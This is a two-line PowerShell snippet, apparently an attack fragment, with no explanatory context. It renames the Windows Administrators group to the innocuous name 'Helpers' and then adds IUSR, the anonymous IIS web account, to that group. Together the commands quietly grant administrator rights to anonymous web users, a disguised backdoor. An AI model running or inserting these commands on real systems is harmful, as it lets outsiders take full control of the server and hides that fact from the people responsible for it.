Rename-LocalGroup -Name Administrators -NewName Helpers
Add-LocalGroupMember -Group Helpers -Member IUSR
